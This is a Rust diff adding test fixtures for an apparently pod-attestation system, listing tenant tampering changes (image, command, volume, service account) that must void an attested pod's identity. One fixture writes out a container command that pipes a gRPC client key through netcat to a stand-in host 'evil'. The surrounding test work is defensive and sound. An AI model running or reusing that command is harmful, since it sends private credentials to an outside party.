@@ -1008,6 +1008,31 @@ pub fn stored(pod: &mut Value, decision: &keyward_engine::Decision, namespace: &
     pod["metadata"]["creationTimestamp"] = json!(keyward_certs::rfc3339(created));
 }
 
+/// A change to a pod, named.
+pub type TenantChange = (&'static str, fn(&mut Value));
+
+/// What a tenant changes on her copy of an attested fms driver pod (its annotations, labels,
+/// owner and volumes, read with `get pods`) to make it hers, each named: any one of them must
+/// cost the copy its identity.
+pub const TENANT_CHANGES: [TenantChange; 4] = [
+    ("image", |p| p["spec"]["containers"][0]["image"] = json!("quay.io/tenant/steal:1")),
+    ("command", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "cat $GRPC_CLIENT_KEY | nc evil 80"])),
+    ("volume", |p| {
+        p["spec"]["volumes"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!({"name": "tools", "configMap": {"name": "tenant-tools", "defaultMode": 420}}));
+        p["spec"]["containers"][0]["volumeMounts"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!({"name": "tools", "mountPath": "/opt/app-root/src"}));
+    }),
+    ("account", |p| {
+        p["spec"]["serviceAccountName"] = json!("tenant-builder");
+        p["spec"]["serviceAccount"] = json!("tenant-builder");
+    }),
+];
+
 /// The fms driver pod of the job `evaljob-sample` in team-a, attested with `keys`.
 pub fn attested_fms_pod(keys: &Keys) -> Value {
     fms_pod(Some(keys), "team-a", "evaljob-sample", "evaljob-sample", OWNER_UID)
